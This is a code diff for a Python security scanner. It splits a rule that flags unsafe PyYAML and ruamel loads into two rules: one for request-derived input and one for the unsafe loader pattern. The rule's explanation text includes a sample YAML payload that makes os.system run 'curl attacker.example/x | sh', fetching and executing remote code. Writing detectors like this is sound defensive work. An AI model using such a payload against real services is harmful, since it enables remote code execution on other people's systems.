@@ -1,11 +1,15 @@
-"""PY-YAML-001 yaml-unsafe-load: YAML parsed with a loader that builds Python objects.
+"""PY-YAML-001 yaml-unsafe-load-of-input and PY-YAML-002 yaml-unsafe-loader: YAML parsed with a loader that builds Python objects.
 
-**What it finds.** `yaml.load()` / `yaml.load_all()` without a loader or with
+**What they find.** `yaml.load()` / `yaml.load_all()` without a loader or with
 `Loader=yaml.Loader`, `UnsafeLoader`, `FullLoader` (or their C variants);
 `yaml.unsafe_load()`, `yaml.full_load()` and their `_all` forms; ruamel's
-`YAML(typ="unsafe")`. The pattern itself is the flaw: no input evidence is
-needed, because configuration files, uploads and message payloads all end up
-here. When the document comes from a request the message says so.
+`YAML(typ="unsafe")`. **PY-YAML-001** (CWE-502, critical) is the call on a
+document that comes from a request: remote code execution as it stands.
+**PY-YAML-002** (CWE-676, dangerous function) is the same call on a document
+of unknown or local origin (a configuration file, a message from a queue, a
+constant): the pattern is the flaw, because the day that document comes from
+somewhere else the code runs whatever it says, so it is reported too, with a
+lower severity and the same fix.
 
 **Not reported.** `yaml.safe_load()`, `Loader=yaml.SafeLoader` /
 `CSafeLoader` / `BaseLoader`, and loaders whose name says they are safe
@@ -45,30 +49,28 @@ UNSAFE_LOADERS = frozenset({"Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader"
 RUAMEL_YAML = frozenset({"ruamel.yaml.YAML", "ruamel.yaml.main.YAML"})
 
 
-@register
-class YamlUnsafeLoad(Rule):
-    id = "PY-YAML-001"
-    name = "yaml-unsafe-load"
-    cwe = 502
-    owasp = "A08:2021"
-    severity = Severity.HIGH
-    confidence = Confidence.HIGH
-    languages = ("python",)
+_EXPLANATION = Explanation(
+    what="The YAML document is parsed with a loader that honours Python-specific tags and builds objects from them.",
+    why=(
+        "For ordinary configuration the result looks exactly like `safe_load`'s, so nothing seems wrong. But "
+        "whoever writes the document chooses which Python objects get constructed and with which arguments; "
+        "with the full `Loader` that means calling any importable function while the file is parsed."
+    ),
+    hostile_input='`!!python/object/apply:os.system ["curl attacker.example/x | sh"]` runs a shell command during parsing.',
+    fix=(
+        "Use `yaml.safe_load(stream)` (or `yaml.load(stream, Loader=yaml.SafeLoader)`); it accepts every plain "
+        "YAML document and rejects Python tags."
+    ),
+)
+
+
+class _UnsafeYamlLoad(Rule):
+    """The detection both rules share; each keeps the calls its evidence fits."""
+
     fix_title = "Use yaml.safe_load"
-    summary = "YAML loaded with a loader that can construct arbitrary Python objects"
-    explanation = Explanation(
-        what="The YAML document is parsed with a loader that honours Python-specific tags and builds objects from them.",
-        why=(
-            "For ordinary configuration the result looks exactly like `safe_load`'s, so nothing seems wrong. But "
-            "whoever writes the document chooses which Python objects get constructed and with which arguments; "
-            "with the full `Loader` that means calling any importable function while the file is parsed."
-        ),
-        hostile_input='`!!python/object/apply:os.system ["curl attacker.example/x | sh"]` runs a shell command during parsing.',
-        fix=(
-            "Use `yaml.safe_load(stream)` (or `yaml.load(stream, Loader=yaml.SafeLoader)`); it accepts every plain "
-            "YAML document and rejects Python tags."
-        ),
-    )
+    languages = ("python",)
+    explanation = _EXPLANATION
+    for_input: bool
 
     def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
         for call, name in calls(ctx):
@@ -98,20 +100,24 @@ class YamlUnsafeLoad(Rule):
         typ = argument_value(ctx, call, "typ")
         if typ is None or literal_value(ctx, typ) != "unsafe":
             return None
+        if self.for_input:
+            return None  # a constructor: no document to trace, reported as PY-YAML-002
         fix = Fix('Use typ="safe"', (Edit(typ.start_byte, typ.end_byte, '"safe"'),))
         message = 'Unsafe YAML load: ruamel `YAML(typ="unsafe")` constructs arbitrary Python objects; use typ="safe"'
         return self.finding(ctx, call, message, fixes=(fix,))
 
-    def _report(self, ctx: AnalysisContext, call: Node, safe_name: str, *, loader: Node | None, how: str, fixable: bool = True) -> Finding:
+    def _report(self, ctx: AnalysisContext, call: Node, safe_name: str, *, loader: Node | None, how: str, fixable: bool = True) -> Finding | None:
         stream = argument_value(ctx, call, "stream", position=0)
         taint = remote_taint(ctx, stream)
+        if (taint is not None) != self.for_input:
+            return None
         origin = f" on data from {taint.source} (line {taint.line})" if taint else ""
         message = f"Unsafe YAML load{origin}: {how} can construct arbitrary Python objects; use yaml.safe_load"
         fixes = ()
         if fixable:
             fix = self._fix(ctx, call, safe_name, loader)
             fixes = (fix,) if fix is not None else ()
-        return self.finding(ctx, call, message, fixes=fixes, severity=Severity.CRITICAL if taint else None)
+        return self.finding(ctx, call, message, fixes=fixes)
 
     def _fix(self, ctx: AnalysisContext, call: Node, safe_name: str, loader: Node | None) -> Fix | None:
         function = call.child_by_field_name("function")
@@ -132,3 +138,27 @@ class YamlUnsafeLoad(Rule):
                 return None
             edits.append(removal)
         return Fix(f"Use yaml.{safe_name}", tuple(edits), imports)
+
+
+@register
+class YamlUnsafeLoadOfInput(_UnsafeYamlLoad):
+    id = "PY-YAML-001"
+    name = "yaml-unsafe-load-of-input"
+    cwe = 502
+    owasp = "A08:2021"
+    severity = Severity.CRITICAL
+    confidence = Confidence.HIGH
+    summary = "YAML from a request loaded with a loader that constructs arbitrary Python objects"
+    for_input = True
+
+
+@register
+class YamlUnsafeLoader(_UnsafeYamlLoad):
+    id = "PY-YAML-002"
+    name = "yaml-unsafe-loader"
+    cwe = 676
+    owasp = "A08:2021"
+    severity = Severity.MEDIUM
+    confidence = Confidence.HIGH
+    summary = "YAML loaded with a loader that can construct arbitrary Python objects (use yaml.safe_load)"
+    for_input = False
